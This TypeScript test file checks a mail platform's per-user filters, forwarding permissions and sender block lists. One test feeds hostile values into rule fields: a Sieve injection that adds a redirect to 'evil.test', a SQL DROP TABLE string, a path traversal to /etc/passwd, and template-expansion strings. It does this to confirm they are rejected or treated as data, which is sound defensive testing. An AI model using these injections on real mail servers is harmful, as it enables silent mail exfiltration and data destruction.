/** What a mailbox's own person sets: filters that sort, people they trust or block, forwarding where the company allows it. */
import { beforeAll, describe, expect, it } from 'vitest';
import { Browser } from '../../stack/browser.ts';
import { addressOf, fleet } from '../../stack/fleet.ts';
import { imap } from '../../stack/mail.ts';
import { newCompany, until } from '../../stack/stack.ts';
import { type Company, change, effective, login, PASSWORD, person } from '../10-data-plane/people.ts';
import { handIn } from './company.ts';

let company: Company;
let ana: string;
const own = new Browser();
const at = (name: string) => `${name}@${company.domain}`;
const FROM = 'aviso@reglas.test';

interface Rule {
  readonly value: string;
  readonly folder?: string;
  readonly markRead?: boolean;
  readonly forwardTo?: string;
}
/** Sets them as its person would. @returns the answer's status and code */
async function setRules(rules: readonly Rule[]): Promise<[number, string | null]> {
  const { version } = (await own.get('/v1/mailbox/rules')).body;
  const answer = await own.call('PUT', '/v1/mailbox/rules', {
    version,
    rules: rules.map(({ value, folder, markRead, forwardTo }) => ({
      match: 'all',
      conditions: [{ field: 'subject', op: 'contains', value }],
      folder: folder ?? null,
      markRead: markRead ?? false,
      flag: false,
      forwardTo: forwardTo ?? null,
    })),
  });
  if (answer.status === 200) await effective(company, ana);
  return [answer.status, answer.body?.code ?? null];
}
const found = async (folder: string, subject: string, node: 'mx1' | 'mx2' = 'mx1') =>
  imap(await addressOf(node), login(company, 'ana'), async (client) => {
    const lock = await client.getMailboxLock(folder).catch(() => null);
    if (!lock) return null;
    try {
      const all =
        client.mailbox && client.mailbox.exists > 0 ? await client.fetchAll('1:*', { envelope: true, flags: true }) : [];
      return all.find((one) => one.envelope?.subject === subject)?.flags ?? null;
    } finally {
      lock.release();
    }
  });

beforeAll(async () => {
  const { world } = await fleet();
  const host = world.resolver.replace(/\.\d+$/, '.1');
  await world.setZone('reglas.test', { '@': [`A ${host}`, `TXT "v=spf1 ip4:${host} -all"`] });
  company = await newCompany(5);
  ana = await person(company, 'ana');
  expect((await own.signIn(at('ana'), PASSWORD)).status).toBe(200);
});

describe("a person's own filters", () => {
  it('sort what arrives on both nodes, the first that fits deciding', async () => {
    const rules = [
      { value: 'pedido', folder: 'Clientes/Pedidos' },
      { value: 'pedido especial', folder: 'Otra' },
      { value: 'boletín', markRead: true },
    ];
    expect(await setRules(rules)).toEqual([200, null]);
    for (const node of ['mx1', 'mx2'] as const) {
      await handIn({ from: FROM, to: [at('ana')], subject: `pedido especial ${node}`, node });
      await until(
        `the order on ${node}`,
        async () => (await found('Clientes/Pedidos', `pedido especial ${node}`, node)) !== null,
      );
      await handIn({ from: FROM, to: [at('ana')], subject: `bolet=C3=ADn ${node}`, node });
      await handIn({ from: FROM, to: [at('ana')], subject: `=?utf-8?q?bolet=C3=ADn_${node}?=`, node });
      await until(`the newsletter on ${node}`, async () => (await found('INBOX', `boletín ${node}`, node))?.has('\\Seen'));
    }
    expect(await found('INBOX', 'pedido especial mx1')).toBeNull();
  });

  it('forward where the company allows it, and nowhere else', async () => {
    const rules = [{ value: 'copia', forwardTo: 'copia@ext1.test' }];
    expect(await setRules(rules)).toEqual([403, 'rules.forward_not_allowed']);
    expect((await own.call('PUT', '/v1/mailbox/forward', { version: 1, forward: null })).status).toBe(403);
    await change(company, ana, { mayForward: true });
    expect(await setRules(rules)).toEqual([200, null]);
    const { world } = await fleet();
    const subject = `copia de ${company.domain}`;
    await handIn({ from: FROM, to: [at('ana')], subject });
    await world.waitForMail('copia@ext1.test', (mail) => mail.header('subject') === subject);
    await until('it here as well', async () => (await found('INBOX', subject)) !== null);
    // Taken back, the filter that is there sends nothing on any more.
    await change(company, ana, { mayForward: false });
    await effective(company, ana);
    await handIn({ from: FROM, to: [at('ana')], subject: `${subject} dos` });
    await until('the second here', async () => (await found('INBOX', `${subject} dos`)) !== null);
    expect((await world.inbox('copia@ext1.test')).filter((mail) => mail.header('subject') === `${subject} dos`)).toEqual([]);
  });

  it('take hostile values for data or are refused, and mail goes on arriving', async () => {
    const hostile = [
      '"; discard; "',
      'a"\r\nredirect "x@evil.test";',
      "'); DROP TABLE mailbox; --",
      '.*',
      `\${env.vnd.dovecot.config.mailbox_id}`,
      '%{sasl_username}$sender',
      'xn--a-ñ.test',
      '\\',
      '*'.repeat(65_536),
      '../../../etc/passwd',
    ];
    for (const value of hostile) {
      for (const rule of [
        { value, folder: 'Normal' },
        { value: 'nunca', folder: value },
      ]) {
        const [status] = await setRules([rule]);
        expect([200, 400, 422], value.slice(0, 40)).toContain(status);
      }
    }
    const subject = 'después de lo hostil';
    await handIn({ from: FROM, to: [at('ana')], subject });
    await until('it in the inbox', async () => (await found('INBOX', subject)) !== null);
    const lab = await fleet();
    const { stdout } = await lab
      .node('mx1')
      .run(`cat /var/vmail/${company.tenantId}/${ana}/.dovecot.sieve.log /var/lib/relevo/rules/*.log 2>/dev/null | wc -l`);
    expect(Number(stdout)).toBe(0);
  });

  it('block and trust senders, and leave the scores to the company', async () => {
    const { version } = (await own.get('/v1/mailbox/filters')).body;
    const answer = await own.call('PUT', '/v1/mailbox/filters', { version, allow: ['socio.test'], deny: [FROM], junkAt: 100 });
    expect(answer.body).toMatchObject({ allow: ['@socio.test'], deny: [FROM], junkAt: null });
    await effective(company, ana);
    expect(await handIn({ from: FROM, to: [at('ana')], subject: 'bloqueado' })).toMatch(/^554 5\.7\.1 The recipient does not/);
  });
});
